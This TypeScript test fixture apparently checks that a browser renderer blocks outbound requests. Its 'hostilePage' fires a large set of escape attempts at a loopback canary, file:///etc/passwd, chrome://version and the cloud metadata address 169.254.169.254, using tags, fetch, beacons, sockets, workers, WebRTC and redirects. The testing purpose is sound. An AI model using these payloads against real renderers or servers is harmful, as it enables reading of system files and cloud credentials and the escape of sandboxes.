import { createServer } from 'node:http';
import { once } from 'node:events';

export type PageServer = {
  readonly origin: string;
  /** Every requested path. */
  readonly requests: string[];
  close(): void;
};

/** Serves a local page as the view, without a policy. */
export async function servePage(page: (origin: string) => string): Promise<PageServer> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    const isView = request.url?.startsWith('/?service_token=') ?? false;
    response.setHeader('content-type', isView ? 'text/html; charset=utf-8' : 'text/javascript');
    response.end(isView ? page(origin) : '');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('A TCP server without a port.');
  const origin = `http://127.0.0.1:${address.port}`;
  return {
    origin,
    requests,
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** A view with only this content. */
export function quietPage(body: string): string {
  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Application of Ada</title>
<body data-ready="true"><h1>Application</h1><h2>About You</h2>${body}</body></html>`;
}

/** A view that renders by its URL like the real one; `extra` runs each time. */
export function followingPage(extra = ''): string {
  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Application</title><body><main></main><script>
function render(event) {
  const token = new URLSearchParams(location.search).get('service_token');
  const html = '<div data-ready="true" data-follows-address><h1>Application of ' + token + '</h1></div>';
  document.querySelector('main').innerHTML = html;
  ${extra}
}
addEventListener('popstate', render);
render();
</script></body></html>`;
}

/**
 * Every known way out of a page, aimed at the canary in each spelling of its address, at files and at the browser
 * itself, without a policy. The page is ready only after a while.
 */
export function hostilePage(origin: string, port: number): string {
  const own = new URL(origin).host;
  const addresses = [
    `http://127.0.0.1:${port}`,
    `http://localhost:${port}`,
    `http://127.1:${port}`,
    `http://0x7f000001:${port}`,
    `http://[::1]:${port}`,
    `http://[::ffff:127.0.0.1]:${port}`,
    `http://${own}@127.0.0.1:${port}`,
    `http://localtest.localhost:${port}`,
  ];
  const others = [
    'file:///etc/passwd',
    'view-source:file:///etc/passwd',
    'chrome://version',
    'http://169.254.169.254',
  ];
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title>
${addresses.slice(0, 2).map(tagsInHead).join('\n')}
</head><body><h1>Still here</h1>
${[...addresses.slice(0, 2).map((address) => `${address}/x`), ...others].map(tagsInBody).join('\n')}
${addresses.map((address) => `<img src="${address}/y">`).join('\n')}
<script>const WORKER = ${JSON.stringify(WORKER)};
(${attack.toString()})(${JSON.stringify(addresses)}, ${JSON.stringify(others)}, ${port})</script>
</body></html>`;
}

function tagsInHead(address: string): string {
  return `<link rel="preconnect" href="${address}"><link rel="dns-prefetch" href="${address}">
<link rel="stylesheet" href="${address}/a.css"><link rel="prefetch" href="${address}/p">
<link rel="preload" as="image" href="${address}/l"><link rel="modulepreload" href="${address}/m.js">
<link rel="prerender" href="${address}/r"><link rel="icon" href="${address}/i.ico">
<meta http-equiv="refresh" content="0; url=${address}/refresh">
<style>@import url(${address}/b.css); @font-face { font-family: c; src: url(${address}/c.woff2) }
body { background: url(${address}/d.png); font-family: c, sans-serif }</style>`;
}

function tagsInBody(url: string): string {
  return `<img src="${url}"><img srcset="${url} 2x"><iframe src="${url}"></iframe><object data="${url}"></object>
<embed src="${url}"><video src="${url}" autoplay></video><audio src="${url}" autoplay></audio>
<script src="${url}"></script><svg><image href="${url}" /><use href="${url}#a" /></svg>
<form action="${url}" method="post"><input name="a" value="b"></form><a href="${url}" ping="${url}">link</a>
<iframe srcdoc="<img src='${url}'><script src='${url}'></script>"></iframe>`;
}

/** The same from a worker. */
const WORKER = `fetch('URL').catch(() => {}); try { new WebSocket('URL'.replace('http', 'ws')) } catch {}
try { new EventSource('URL') } catch {} try { importScripts('URL') } catch {}`;

/** Runs in the page; each attempt can fail. */
function attack(addresses: readonly string[], others: readonly string[], port: number): void {
  let failures = 0;
  const attempt = (work: () => unknown): void => {
    try {
      void Promise.resolve(work()).catch(() => (failures += 1));
    } catch {
      failures += 1;
    }
  };
  for (const url of [...addresses, ...others, '/api/profile', '/service/tmp-pdf?service_token=other']) {
    attempt(() => fetch(url, { mode: 'no-cors' }));
    attempt(() => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'a' }));
    attempt(() => navigator.sendBeacon(url, 'a'));
    attempt(() => new EventSource(url));
    attempt(() => new WebSocket(url.replace('http', 'ws')));
    attempt(() => import(url));
    attempt(() => window.open(url));
    attempt(() => navigator.serviceWorker.register(url));
    attempt(() => new Worker(URL.createObjectURL(new Blob([WORKER.replaceAll('URL', url)]))));
    attempt(() => new Image().setAttribute('src', url));
  }
  attempt(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('a');
    await peer.setLocalDescription(await peer.createOffer());
  });
  for (const form of document.forms) attempt(() => form.submit());
  for (const link of document.querySelectorAll('a')) attempt(() => link.click());
  attempt(() => window.location.assign(addresses[0] ?? ''));
  window.setTimeout(() => {
    document.body.dataset['ready'] = 'true';
    document.body.dataset['failures'] = String(failures);
  }, 1500);
}
